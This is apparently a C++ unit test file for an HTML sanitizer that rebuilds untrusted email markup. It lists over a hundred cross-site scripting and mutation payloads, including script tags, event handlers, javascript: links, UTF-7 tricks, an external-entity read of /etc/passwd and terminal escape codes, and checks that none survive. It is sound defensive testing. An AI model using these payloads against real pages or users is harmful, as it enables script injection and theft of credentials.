#include "inspect/text/html_rebuild.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "support/html_reader.h"

namespace beadle::inspect {
namespace {

using test::forbidden_in;
using test::loose_tag_in;

std::string rebuilt(const std::string& html) { return rebuild_html(html, 100'000).html; }

struct Payload {
    const char* name;
    std::string html;
};

// What has run in some browser or mail program once, and what is made to be read otherwise a second time.
std::vector<Payload> payloads() {
    using namespace std::string_literals;
    return {
        {"a script", "<script>alert(1)</script>"},
        {"a script in capitals", "<SCRIPT>alert(1)</SCRIPT>"},
        {"a script with a source", "<script src=//e.example/x.js></script>"},
        {"a script never closed", "<script>alert(1)"},
        {"a script with a slash for a blank", "<script/src=//e.example></script>"},
        {"a script in a script", "<scr<script>ipt>alert(1)</scr</script>ipt>"},
        {"a script behind a NUL", "<scr\0ipt>alert(1)</scr\0ipt>"s},
        {"a NUL before the name", "<\0script>alert(1)</script>"s},
        {"a script closed with a blank", "<script>alert(1)</script >"},
        {"a script of another type", "<script type=text/plain><img src=x onerror=alert(1)></script>"},
        {"an end tag of a script in a string", "<script>x='</script><img src=x onerror=alert(1)>'</script>"},
        {"a comment in a script", "<script><!--<script></script>--><img src=x onerror=alert(1)></script>"},
        {"an image that fails", "<img src=x onerror=alert(1)>"},
        {"an image with a slash for a blank", "<img/src=x/onerror=alert(1)>"},
        {"an image with backquotes", "<img src=`x` onerror=`alert(1)`>"},
        {"an image with a quoted end", "<img src=\"x\"onerror=alert(1)>"},
        {"an image with a broken quote", "<img \"\"\"><script>alert(1)</script>\">"},
        {"an image whose alt closes the tag", "<img alt=\"><script>alert(1)</script>\">"},
        {"an image with markup in entities", "<img alt=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"},
        {"an image with a srcset", "<img srcset=\"//e.example/a 1x, //e.example/b 2x\">"},
        {"the old name of an image", "<image src=x onerror=alert(1)>"},
        {"a body that loads", "<body onload=alert(1)>"},
        {"a body with a background", "<body background=\"javascript:alert(1)\">"},
        {"a body whose page shows", "<body onpageshow=alert(1)>"},
        {"a frame set", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>"},
        {"an iframe", "<iframe src=javascript:alert(1)></iframe>"},
        {"an iframe with a document", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"},
        {"iframes in one another", "<iframe><iframe><script>alert(1)</script></iframe></iframe>"},
        {"an iframe never closed", "<iframe><img src=x onerror=alert(1)>"},
        {"an object", "<object data=javascript:alert(1)></object>"},
        {"an object with a parameter", "<object><param name=movie value=javascript:alert(1)></object>"},
        {"an embedded thing", "<embed src=javascript:alert(1)>"},
        {"an applet", "<applet code=x codebase=//e.example></applet>"},
        {"a base", "<base href=javascript:alert(1)//><a href=x>y</a>"},
        {"a refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">"},
        {"a refresh to data", "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>"},
        {"a charset that is UTF-7", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-"},
        {"UTF-7 alone", "+ADw-img src=x onerror=alert(1)+AD4-"},
        {"a style sheet", "<link rel=stylesheet href=//e.example/x.css>"},
        {"a style that imports", "<style>@import '//e.example/x.css';</style>"},
        {"a style with a url", "<style>body{background:url(//e.example/x.png)}</style>"},
        {"a style never closed", "<style>*{x:expression(alert(1))}<img src=x onerror=alert(1)>"},
        {"a style with a tag in it", "<style><img src=\"</style><img src=x onerror=alert(1)//\"></style>"},
        {"a style attribute", "<p style=\"background:url(javascript:alert(1))\">x</p>"},
        {"an expression", "<p style=\"width:expression(alert(1))\">x</p>"},
        {"a binding", "<p style=\"-moz-binding:url(//e.example/x.xml#y)\">x</p>"},
        {"a style that covers everything", "<p style=\"position:fixed;top:0;left:0\">x</p>"},
        {"a link that runs", "<a href=javascript:alert(1)>x</a>"},
        {"a link that runs in capitals", "<a href=JaVaScRiPt:alert(1)>x</a>"},
        {"a link with a tab in its scheme", "<a href=\"java\tscript:alert(1)\">x</a>"},
        {"a link with a line end in its scheme", "<a href=\"java\nscript:alert(1)\">x</a>"},
        {"a link with entities in its scheme", "<a href=\"&#106;avascript&colon;alert(1)\">x</a>"},
        {"a link with hex entities", "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>"},
        {"a link with a control before it", "<a href=\"\x01javascript:alert(1)\">x</a>"},
        {"a link to data", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"},
        {"a link to a script of old", "<a href=vbscript:msgbox(1)>x</a>"},
        {"a link whose target closes the tag", "<a href=\"x>\"><img src=x onerror=alert(1)>\">x</a>"},
        {"a link with a handler", "<a href=x onmouseover=alert(1)>x</a>"},
        {"a link with markup as its target", "<a href='<script>alert(1)</script>'>x</a>"},
        {"a link never closed", "<a href=javascript:alert(1)"},
        {"a form", "<form action=//e.example><input name=password><button>Go</button></form>"},
        {"a form that runs", "<form action=javascript:alert(1)><input type=submit></form>"},
        {"a button with an action", "<button formaction=javascript:alert(1)>x</button>"},
        {"an input that takes the focus", "<input autofocus onfocus=alert(1)>"},
        {"an image as input", "<input type=image src=x onerror=alert(1)>"},
        {"a text area", "<textarea autofocus onfocus=alert(1)></textarea>"},
        {"a text area with markup", "<textarea><img src=x onerror=alert(1)></textarea>"},
        {"a text area that ends in an attribute", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>"},
        {"a selection", "<select autofocus onfocus=alert(1)><option>x</option></select>"},
        {"a key generator", "<keygen autofocus onfocus=alert(1)>"},
        {"details that open", "<details open ontoggle=alert(1)><summary>x</summary></details>"},
        {"a marquee", "<marquee onstart=alert(1)>x</marquee>"},
        {"a video", "<video src=x onerror=alert(1)></video>"},
        {"a video with a source", "<video><source onerror=alert(1) src=x></video>"},
        {"a sound", "<audio src=x onerror=alert(1)></audio>"},
        {"a drawing", "<svg onload=alert(1)>"},
        {"a drawing with a script", "<svg><script>alert(1)</script></svg>"},
        {"a drawing with a script in entities", "<svg><script>&#97;lert(1)</script></svg>"},
        {"a drawing with a foreign object", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"},
        {"a drawing with a set", "<svg><set attributeName=onmouseover to=alert(1)></svg>"},
        {"a drawing that moves a link", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>"},
        {"a drawing that uses another", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)/>#x\"></svg>"},
        {"a drawing with a style", "<svg><style><img src=x onerror=alert(1)></style></svg>"},
        {"a drawing with a title", "<svg><title><img src=x onerror=alert(1)></title></svg>"},
        {"a drawing with CDATA", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"},
        {"a formula", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>"},
        {"a formula with an action", "<math><maction actiontype=statusline#//e.example xlink:href=javascript:alert(1)>x</maction></math>"},
        {"a formula with HTML in it", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"},
        {"a mutation by math and table", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"},
        {"a mutation by svg and style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"},
        {"a mutation by noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"},
        {"a mutation by template", "<template><p title=\"</template><img src=x onerror=alert(1)>\"></template>"},
        {"a mutation by noembed", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>"},
        {"a mutation by noframes", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>"},
        {"a mutation by xmp", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>"},
        {"a mutation by plaintext", "<plaintext><img src=x onerror=alert(1)>"},
        {"a mutation by title", "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>"},
        {"a mutation by forms in one another", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"},
        {"a mutation by lists in tables", "<table><li><a href=\"</table><img src=x onerror=alert(1)>\">x</a></table>"},
        {"a comment that ends early", "<!--><img src=x onerror=alert(1)>-->"},
        {"a comment that ends with a bang", "<!-- --!><img src=x onerror=alert(1)> -->"},
        {"a comment never closed", "<!-- <img src=x onerror=alert(1)>"},
        {"a comment of dashes", "<!---><img src=x onerror=alert(1)>"},
        {"a conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"},
        {"a conditional that shows", "<![if true]><img src=x onerror=alert(1)><![endif]>"},
        {"CDATA", "<![CDATA[<img src=x onerror=alert(1)>]]>"},
        {"an instruction", "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>"},
        {"an instruction with markup", "<?php <img src=x onerror=alert(1)> ?>"},
        {"a document type with markup", "<!doctype html \"<img src=x onerror=alert(1)>\">"},
        {"a document type with an entity", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><p>&y;</p>"},
        {"markup in entities", "&lt;script&gt;alert(1)&lt;/script&gt;"},
        {"markup in entities of entities", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"},
        {"markup in numbers", "&#60;img src=x onerror=alert(1)&#62;"},
        {"markup in numbers without an end", "&#60img src=x onerror=alert(1)&#62"},
        {"markup in hex with zeros", "&#x000003c;img src=x onerror=alert(1)&#x3e;"},
        {"full-width brackets", "\xef\xbc\x9cscript\xef\xbc\x9e" "alert(1)\xef\xbc\x9c/script\xef\xbc\x9e"},
        {"broken UTF-8 before a bracket", "\xc0<img src=x onerror=alert(1)>\xe0\x80"},
        {"an overlong bracket", "\xc0\xbcscript\xc0\xbe"},
        {"a tag that is not one", "<1><img src=x onerror=alert(1)>"},
        {"a bracket alone", "a < b > c << d >> <"},
        {"an end tag alone", "</script></style></iframe><img src=x onerror=alert(1)>"},
        {"an end tag with attributes", "</p onclick=alert(1)>"},
        {"an end tag of nothing", "</ ><img src=x onerror=alert(1)>"},
        {"a tag with a colon", "<svg:script>alert(1)</svg:script>"},
        {"a tag with a name of its own", "<x-y onclick=alert(1) style=x>z</x-y>"},
        {"a name that begins as an allowed one", "<p1 onclick=alert(1)><bgsound src=javascript:alert(1)>"},
        {"an allowed element with a handler", "<p onclick=alert(1)>x</p>"},
        {"an allowed element with an id", "<p id=location name=cookie class=govuk-button>x</p>"},
        {"a table cell that does things", "<table><td background=javascript:alert(1) onclick=alert(1) colspan=\"2\" rowspan='1 onclick=x'>x"},
        {"a cell with a span of markup", "<td colspan=\"2\"><script>\">x</td>"},
        {"a cell with a great span", "<td colspan=99999 rowspan=0>x</td>"},
        {"a slot and a shadow", "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>"},
        {"a portal", "<portal src=//e.example></portal><fencedframe src=x></fencedframe>"},
        {"a dialog", "<dialog open onclose=alert(1)>x</dialog>"},
        {"an import", "<link rel=import href=//e.example/x.html>"},
        {"a manifest", "<html manifest=//e.example/x><head profile=javascript:alert(1)></head>"},
        {"XML data islands", "<xml id=x><i><b><img src=x onerror=alert(1)></b></i></xml><span datasrc=#x datafld=b></span>"},
        {"an old layer", "<layer src=//e.example></layer><ilayer></ilayer>"},
        {"an index", "<isindex type=image src=x onerror=alert(1)>"},
        {"a name cut off", "<im"},
        {"a quote cut off", "<img src=\"x onerror=alert(1)>"},
        {"an end tag cut off", "<p>x</"},
        {"bidirectional marks", "<p>\xe2\x80\xae" "elif.exe\xe2\x80\xac &#x202e;x</p>"},
        {"octets that a terminal obeys", "<p>\x1b]0;x\x07\x1b[2J &#27;[31m</p>"},
    };
}

TEST(RebuiltHtml, NothingHostileIsLeftOfWhatHasEverRun) {
    const auto all = payloads();
    EXPECT_GE(all.size(), 100u);
    for (const auto& p : all) {
        for (const std::string& around : {std::string(), std::string("<table><tr><td>"), std::string("<p title='"), std::string("<a href=\"x\">")}) {
            const std::string html = rebuilt(around + p.html + "<p>after");
            EXPECT_EQ(forbidden_in(html), "") << p.name << " in " << around << ": " << html;
            EXPECT_EQ(loose_tag_in(html), "") << p.name << " in " << around << ": " << html;
            for (const unsigned char c : html) EXPECT_FALSE((c < 0x20 && c != '\n' && c != '\t') || c == 0x7f) << p.name;
        }
    }
}

TEST(RebuiltHtml, WhatIsRebuiltIsRebuiltToItself) {
    for (const auto& p : payloads()) {
        const std::string once = rebuilt(p.html);
        EXPECT_EQ(rebuilt(once), once) << p.name;
    }
}

TEST(RebuiltHtml, CutAnywhereNothingHostileAppears) {
    for (const auto& p : payloads())
        for (std::size_t n = 0; n <= p.html.size(); ++n) {
            const std::string html = rebuilt(p.html.substr(0, n));
            EXPECT_EQ(loose_tag_in(html), "") << p.name << " cut at " << n;
        }
}

struct Case {
    const char* name;
    std::string given, want;
};

TEST(RebuiltHtml, WhatAPersonReadsIsThere) {
    const Case cases[] = {
        {"words and paragraphs", "<p>Dear <b>Anne</b>,</p><p>thank you.</p>", "<p>Dear <b>Anne</b>,</p><p>thank you.</p>"},
        {"a link with its real target", "<a href=\"https://e.example/pay\">www.bank.example</a>", "www.bank.example [link: https://e.example/pay]"},
        {"a picture's words", "<img src=cid:1 alt=\"our logo\">", "[picture: our logo]"},
        {"a table", "<table><tr><td colspan=2>a</td></tr></table>", "<table><tr><td colspan=\"2\">a</td></tr></table>"},
        {"elements left open are closed", "<ul><li>one<li><b>two", "<ul><li>one<li><b>two</b></li></li></ul>"},
        {"a stray end closes nothing", "a</b></p>b", "ab"},
        {"what stands in unknown elements", "<center><font color=red>x</font></center>", "<br>x<br>"},
        {"words of a form", "<form>Name <input><button>Go</button></form>", "<br>Name <br>Go<br><br>"},
        {"words without a script", "<noscript>Open in a browser</noscript>", "Open in a browser"},
        {"markup characters", "1 &lt; 2 &amp; \"x\"", "1 &lt; 2 &amp; &quot;x&quot;"},
    };
    for (const auto& c : cases) EXPECT_EQ(rebuilt(c.given), c.want) << c.name;
}

TEST(RebuiltHtml, WhatItWouldFetchAndDoIsCounted) {
    const auto out = rebuild_html("<img src=https://e.example/1.png><img src=cid:2><img src=data:image/png;base64,AA>"
                                  "<div style=\"background:url('https://e.example/3')\"><link rel=stylesheet href=//e.example/4>"
                                  "<script>x</script><p onclick=x><form></form>",
                                  10'000);
    EXPECT_EQ(out.left_out, 3u);
    EXPECT_EQ(out.taken_out, 4u);  // link script onclick form
}

TEST(RebuiltHtml, AValueIsMaskedThoughElementsPartIt) {
    const WordsFilter filter = [](std::string_view words) {
        std::vector<WordsCut> cuts;
        if (const auto at = words.find("999123"); at != words.npos) cuts.push_back({at, at + 6, "9••••3"});
        return cuts;
    };
    EXPECT_EQ(rebuild_html("<p>No <b>999</b><i>123</i> x</p>", 1000, filter).html, "<p>No <b>9••••3</b><i></i> x</p>");
    EXPECT_EQ(rebuild_html("<p>999</p><p>123</p>", 1000, filter).html, "<p>999</p><p>123</p>") << "blocks part words";
}

TEST(RebuiltHtml, ItEndsWithinItsBound) {
    std::string deep, wide;
    for (int i = 0; i < 50'000; ++i) {
        deep += "<div><table><tr><td>";
        wide += "<p>&lt;&lt;&lt;</p>";
    }
    for (const auto& html : {deep, wide}) {
        const auto out = rebuild_html(html, 20'000);
        EXPECT_LE(out.html.size(), 20'000u);
        EXPECT_EQ(loose_tag_in(out.html), "");
    }
    EXPECT_TRUE(rebuild_html(wide, 20'000).cut);
}

}  // namespace
}  // namespace beadle::inspect
